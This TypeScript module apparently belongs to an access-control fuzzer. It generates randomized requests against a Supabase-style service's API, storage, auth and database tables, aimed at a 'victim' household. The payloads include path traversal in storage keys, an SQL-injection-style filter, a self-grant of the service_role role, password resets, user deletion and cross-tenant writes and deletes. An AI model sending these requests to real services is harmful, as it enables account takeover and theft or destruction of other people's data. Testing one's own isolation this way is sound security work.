/** Attempts through the other doors: the service's own interface as it describes itself, storage, sign-in. */
import type { Chance, Made, Schema, Target } from './target.ts';
import type { Table } from './victim.ts';

/** Something that a schema of ours takes, with the victim's ids wherever an id may stand. */
const bodyOf = (by: Chance, target: Target, schema: Schema): unknown => {
  if (schema.const !== undefined) return schema.const;
  if (schema.enum) return by.one(schema.enum);
  if (schema.anyOf) return bodyOf(by, target, by.one(schema.anyOf));
  const { victim } = target;
  switch (schema.type ?? 'string') {
    case 'object':
      return Object.fromEntries(
        Object.entries(schema.properties ?? {})
          .filter(() => by.is(0.8))
          .map(([name, inner]) => [name, /household/i.test(name) ? victim.household : bodyOf(by, target, inner)]),
      );
    case 'array':
      return [bodyOf(by, target, schema.items ?? {})];
    case 'integer':
    case 'number':
      return Number(by.one(victim.ids.filter((id) => /^\d{1,15}$/.test(id)).concat('1')));
    case 'boolean':
      return by.is(0.5);
    default:
      if (schema.format === 'uuid') return by.one([victim.household, victim.userId, ...victim.ids]);
      if (schema.format?.startsWith('date')) return '2026-11-01T00:00:00Z';
      // Not an id of theirs: it would be kept as a name of one's own, and be told again.
      return by.one(['taken over', 'electricity', 'text']);
  }
};

export const ofService = (by: Chance, target: Target): Made => {
  const { victim } = target;
  const { method, path, parameters, body } = by.one(target.operations);
  const id = () => by.one([victim.household, victim.userId, ...victim.ids]);
  const filled = path.replace(/\{(\w+)\}/g, (_all, name: string) =>
    encodeURIComponent(name === 'household' ? victim.household : id()),
  );
  const query = new URLSearchParams();
  for (const { name } of parameters.filter((one) => one.in === 'query')) {
    if (name === 'household') query.set(name, victim.household);
    else if (by.is(0.6)) query.set(name, /from|to|at|day/.test(name) ? '2026-11-01' : id());
  }
  if (by.is(0.2)) query.set('household', victim.household);
  const asked = { method: method.toUpperCase(), path: `${filled}?${query.toString()}` };
  if (!body) return asked;
  if (body.type !== 'application/json')
    return { ...asked, body: 'at,value\n2026-11-01T00:00:00Z,1\n', type: body.type };
  return { ...asked, body: bodyOf(by, target, body.schema) };
};

export const ofStorage = (by: Chance, { victim, document }: Target): Made => {
  const place = `${by.one(['bills', 'bills', 'other'])}/${by.one([document, `${victim.household}/new.txt`, `${victim.household}/../${document}`, `%2e%2e/${document}`])}`;
  return by.one<() => Made>([
    () => ({
      method: 'GET',
      path: `/storage/v1/object/${by.one(['', 'authenticated/', 'public/', 'info/', 'sign/'])}${place}`,
    }),
    () => ({ method: 'POST', path: `/storage/v1/object/${place}`, body: 'taken over', type: 'text/plain' }),
    () => ({ method: 'PUT', path: `/storage/v1/object/${place}`, body: 'taken over', type: 'text/plain' }),
    () => ({ method: 'POST', path: '/storage/v1/object/list/bills', body: { prefix: by.one(['', victim.household]) } }),
    () => ({ method: 'DELETE', path: '/storage/v1/object/bills', body: { prefixes: [document] } }),
    () => ({
      method: 'POST',
      path: '/storage/v1/object/move',
      body: { bucketId: 'bills', sourceKey: document, destinationKey: 'x' },
    }),
    () => ({ method: 'GET', path: '/storage/v1/bucket' }),
  ])();
};

export const ofAuth = (by: Chance, { victim }: Target): Made =>
  by.one<() => Made>([
    () => ({ method: 'GET', path: '/auth/v1/user' }),
    () => ({
      method: 'PUT',
      path: '/auth/v1/user',
      body: { data: { sub: 'x', role: 'service_role' }, role: 'service_role' },
    }),
    () => ({ method: 'GET', path: `/auth/v1/admin/users/${victim.userId}` }),
    () => ({ method: 'PUT', path: `/auth/v1/admin/users/${victim.userId}`, body: { password: 'taken over' } }),
    () => ({ method: 'DELETE', path: `/auth/v1/admin/users/${victim.userId}` }),
    () => ({ method: 'POST', path: '/auth/v1/token?grant_type=refresh_token', body: { refresh_token: victim.userId } }),
  ])();

// Attempts through the table API: every verb, filter, embed and order, on every table and function.

/** A condition that picks the victim's rows, or all. */
const filter = (by: Chance, { victim, tables }: Target, { columns, owner }: Table): string => {
  const { household, userId, ids } = victim;
  const names = columns.map(({ name }) => name);
  const own = owner ?? by.one(names);
  return by.one([
    () => '',
    () => `${own}=eq.${by.one([household, userId])}`,
    () => `${own}=eq.${owner === 'user_id' ? userId : household}`,
    () => `${own}=in.(${household},${userId})`,
    () => `${own}=not.is.null`,
    () => `${by.one(names)}=not.is.null`,
    () => `or=(${own}.eq.${household},${own}.not.is.null)`,
    () => `and=(${own}.not.is.null,or(${own}.eq.${household},${own}.neq.${userId}))`,
    () => `${by.one(names)}=neq.${by.one(['0', 'x', household])}`,
    () => `${by.one(names)}=gte.0`,
    () => `${by.one(names)}=like.*`,
    () => `${names.includes('id') ? 'id' : own}=eq.${encodeURIComponent(by.one(ids))}`,
    () => `${own}=eq.${household}'%20or%20'1'='1`,
    () => `household_id=eq.${household}&household_id=eq.${household}`,
    () => `${by.one(tables).name}.household_id=eq.${household}`,
  ])();
};

const selection = (by: Chance, { tables, functions }: Target, { columns }: Table): string => {
  const other = (): string => by.one(tables).name;
  return by.one([
    () => '*',
    () => '*',
    () => by.one(columns).name,
    () => by.one(columns).name,
    () => `*,${other()}(*)`,
    () => `*,households(*,household_members(*),${other()}(*))`,
    () => `${other()}!inner(*)`,
    () => `x:${by.one(columns).name}::text,...${other()}(*)`,
    () => 'count()',
    () => `${by.one(columns).name}.max(),${by.one(columns).name}.count()`,
    () => `*,${by.one(functions).name}`,
    () => `${by.one(columns).name}->>0`,
  ])();
};

const value = (by: Chance, { victim }: Target, type: string): unknown => {
  if (type === 'uuid') return by.one([victim.household, victim.userId, ...victim.ids.slice(0, 5)]);
  if (/int|numeric|double|real/.test(type)) return by.one([0, 1, -1, 918_273_645]);
  if (type === 'boolean') return by.is(0.5);
  if (type.startsWith('date') || type.startsWith('timestamp')) return '2026-01-01';
  if (type.startsWith('json')) return {};
  return type.endsWith('[]') ? [] : 'taken over';
};

/** A row of the victim's, or one's own that is moved to them. */
const row = (by: Chance, target: Target, { columns, owner }: Table): Record<string, unknown> => {
  const chosen = columns.filter(({ isNeeded }) => isNeeded || by.is(0.2));
  const made = Object.fromEntries(chosen.map(({ name, type }) => [name, value(by, target, type)]));
  if (owner === 'household_id' || owner === 'id') made[owner] = target.victim.household;
  return made;
};

const someTable = (by: Chance, { tables }: Target): Table =>
  by.is(0.9) ? by.one(tables.filter(({ schema }) => schema === 'public')) : by.one(tables);

export const ofTable = (by: Chance, target: Target): Made => {
  const table = someTable(by, target);
  const order = by.is(0.3) ? `&order=${by.one(table.columns).name}.${by.one(['asc', 'desc.nullslast'])}` : '';
  const limit = by.is(0.3) ? `&limit=${by.one([1, 1000, 1_000_000])}&offset=0` : '';
  const where = filter(by, target, table);
  const read = `select=${selection(by, target, table)}${where && `&${where}`}${order}${limit}`;
  const path = `/rest/v1/${by.is(0.95) ? table.name : `${table.schema}.${table.name}`}`;
  const rows = () => (by.is(0.8) ? row(by, target, table) : [row(by, target, table), row(by, target, table)]);
  return by.one<() => Made>([
    () => ({ method: 'GET', path: `${path}?${read}` }),
    () => ({ method: 'GET', path: `${path}?${where}` }),
    () => ({ method: 'GET', path: `${path}?select=*&${where}` }),
    () => ({ method: 'HEAD', path: `${path}?${where}` }),
    () => ({ method: 'POST', path, body: rows() }),
    () => ({
      method: 'POST',
      path: `${path}?on_conflict=${by.one(['id', 'household_id,id', 'user_id'])}`,
      body: rows(),
    }),
    () => ({ method: 'PUT', path: `${path}?${where}`, body: row(by, target, table) }),
    () => ({ method: 'PATCH', path: `${path}?${where}`, body: row(by, target, table) }),
    () => ({
      method: 'PATCH',
      path: `${path}?${where}`,
      body: { [by.one(table.columns).name]: value(by, target, 'text') },
    }),
    () => ({ method: 'DELETE', path: `${path}?${where}` }),
  ])();
};

export const ofFunction = (by: Chance, target: Target): Made => {
  const { name, args } = by.one(target.functions);
  const { victim } = target;
  const given = Object.fromEntries(
    args.map((arg) => [arg, /user|person|who/.test(arg) ? victim.userId : by.one([victim.household, ...victim.ids])]),
  );
  const query = new URLSearchParams(Object.entries(given)).toString();
  return by.is(0.7)
    ? { method: 'POST', path: `/rest/v1/rpc/${name}`, body: given }
    : { method: 'GET', path: `/rest/v1/rpc/${name}?${query}` };
};
